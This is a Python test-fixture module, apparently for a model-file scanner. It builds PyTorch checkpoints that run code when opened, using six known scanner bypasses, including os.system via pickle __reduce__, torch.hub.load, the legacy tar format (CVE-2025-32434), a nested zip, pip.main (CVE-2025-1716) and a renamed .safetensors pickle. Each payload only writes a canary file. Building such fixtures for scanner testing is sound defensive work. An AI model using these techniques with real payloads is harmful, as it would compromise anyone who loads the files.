"""Pickles that run code when they are opened; each only writes a canary file and each has the shape of a model.

They are the published ways around scanners: a direct call, code loaded by a harmless-looking library call, the old tar
format, a zip within a zip, pip's own entry, and a pickle under a name that promises none.
"""

import functools
import io
import os
import pickle
import tarfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

from tests.standins.fake_global import importable


def write_os_system(path: Path, canary: Path) -> Path:
    """Write a checkpoint that calls ``os.system``."""
    return _checkpoint(path, _call_shell(canary))


def write_torch_hub(path: Path, canary: Path) -> Path:
    """Write a checkpoint that has ``torch.hub.load`` run a hubconf.py, which lies beside it."""
    folder = path.parent / f"{path.stem}-hub"
    folder.mkdir(parents=True, exist_ok=True)
    code = f"import pathlib\n\n\ndef model():\n    pathlib.Path({str(canary)!r}).write_text('run')\n"
    (folder / "hubconf.py").write_text(code)
    load = functools.partial(torch.hub.load, source="local")
    return _checkpoint(path, _Call(load, str(folder), "model"))


def write_legacy_tar(path: Path, canary: Path) -> Path:
    """Write PyTorch's format before 1.0, a tar; CVE-2025-32434 ran it in spite of ``weights_only=True``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    attack = pickle.dumps(_call_shell(canary), protocol=2)
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(attack)
            archive.addfile(entry, io.BytesIO(attack))
    return path


def write_nested_zip(path: Path, canary: Path) -> Path:
    """Write a checkpoint whose pickle opens a second checkpoint, kept as bytes within it, without any check."""
    inner = io.BytesIO()
    torch.save(_contents(_call_shell(canary)), inner)
    load = functools.partial(torch.load, weights_only=False)
    return _checkpoint(path, _Call(load, _Call(io.BytesIO, inner.getvalue())))


def write_pip_main(path: Path, canary: Path) -> Path:
    """Write a checkpoint that calls ``pip.main`` (CVE-2025-1716); its log is the canary, no network is used."""
    with importable("pip", "main") as main:
        return _checkpoint(path, _Call(main, ["--log", str(canary), "--disable-pip-version-check", "cache", "dir"]))


def write_renamed(path: Path, canary: Path) -> Path:
    """Write the first attack as a bare pickle; ``path`` should end in ``.safetensors``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(_contents(_call_shell(canary)), protocol=2))
    return path


ATTACKS: dict[str, tuple[str, Callable[[Path, Path], Path]]] = {
    "os.system": (".ckpt", write_os_system),
    "torch.hub": (".pt", write_torch_hub),
    "legacy tar": (".pth", write_legacy_tar),
    "nested zip": (".ckpt", write_nested_zip),
    "pip.main": (".bin", write_pip_main),
    "renamed": (".safetensors", write_renamed),
}
"""Name to suffix and writer."""


def write_attack(folder: Path, name: str, canary: Path, suffix: str | None = None) -> Path:
    """Write one of ``ATTACKS`` into ``folder``; ``suffix`` gives it another name."""
    own, writer = ATTACKS[name]
    return writer(folder / f"{name.replace(' ', '-').replace('.', '-')}{suffix or own}", canary)


class _Call:
    """Pickles as a call of ``function``."""

    def __init__(self, function: Callable[..., Any], *arguments: object) -> None:
        self.function = function
        self.arguments = arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.function, self.arguments


def _call_shell(canary: Path) -> _Call:
    # Both sh and cmd.exe understand it.
    return _Call(os.system, f'echo run> "{canary}"')


def _contents(attack: _Call) -> dict[str, object]:
    weights: dict[str, object] = OrderedDict()
    weights["model.diffusion_model.input_blocks.0.0.weight"] = torch.zeros(32, 4, 3, 3)
    weights["model.diffusion_model.input_blocks.0.0.bias"] = attack
    return {"state_dict": weights, "global_step": 1}


def _checkpoint(path: Path, attack: _Call) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(_contents(attack), path)
    return path
